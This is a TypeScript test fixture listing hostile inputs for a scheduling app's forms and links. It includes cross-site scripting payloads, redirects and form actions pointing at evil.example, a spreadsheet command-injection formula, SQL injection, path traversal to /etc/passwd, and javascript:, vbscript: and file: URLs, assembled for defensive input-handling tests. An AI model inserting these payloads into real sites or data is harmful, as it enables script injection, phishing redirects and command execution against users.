/* What people type into Calendly's forms to see what happens, and what slips in by itself. */

const SCRIPTS = [
  '<script>window.__hit = 1</script>',
  '<img src=x onerror="window.__hit = 2">',
  '"><svg onload=window.__hit=3>',
  '<a href="javascript:window.__hit=4">click</a>',
  '<iframe srcdoc="<script>parent.__hit=5</script>"></iframe>',
  '</title><script>window.__hit=6</script>',
  '<style>*{display:none}</style>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<form action="https://evil.example/"><input name=q>',
  '{{constructor.constructor("window.__hit=7")()}}',
  '${window.__hit=8}', // biome-ignore lint/suspicious/noTemplateCurlyInString: it must not be one
  "';window.__hit=9;//",
  '<math><mtext></mtext><script>window.__hit=10</script></math>',
  '<x onclick=window.__hit=11 tabindex=0 onfocus=window.__hit=12 autofocus>',
]

const UNICODE = [
  '\u202Egnp.exe\u202C',
  '\u2067right to left\u2069',
  'مرحبا بالعالم',
  'שלום עולם',
  'a\u200Bb\u200Cc\u200Dd\uFEFFe',
  'Z̸̡̛͎̗͕a̷̧̛̗͕l̵̡̛̗͕g̸̡̛̗͕ơ̷̧̗͕'.repeat(4),
  '👨‍👩‍👧‍👦🏳️‍🌈🇩🇪👩🏽‍🚀',
  '\u0001\u0008\u001B[31mred\u001B[0m',
  'line\nbreak\r\nand\ttab',
  'ﷺ'.repeat(20),
  'Ⓗⓔⓛⓛⓞ 𝕎𝕠𝕣𝕝𝕕',
  '\u2028line\u2029paragraph',
]

const LONG = ['W'.repeat(500), 'very '.repeat(200), 'x'.repeat(64) + '@'.repeat(64), '一'.repeat(300)]

const ODD = [
  'null',
  'undefined',
  '=cmd|/C calc!A0',
  '../../etc/passwd',
  '%00%0a',
  '-1',
  'NaN',
  "O'Brien; DROP TABLE meetings",
]

/** A hundred names that nobody should ever have had. */
export const HOSTILE_TEXTS: readonly string[] = Array.from({ length: 100 }, (_, index) => {
  const all = [...SCRIPTS, ...UNICODE, ...LONG, ...ODD]
  const text = all[index % all.length] ?? ''
  return index < all.length ? text : `${index} ${text}`
})

/** Addresses of a conference that no browser may follow from here. */
export const HOSTILE_LINKS: readonly string[] = [
  'javascript:window.__hit=20',
  'JaVaScRiPt:window.__hit=21',
  ' javascript:window.__hit=22',
  '\u0001javascript:window.__hit=23',
  'java\nscript:window.__hit=24',
  'data:text/html,<script>window.__hit=25</script>',
  'vbscript:msgbox(1)',
  'file:///etc/passwd',
  '//evil.example/room',
  'blob:https://evil.example/1',
]
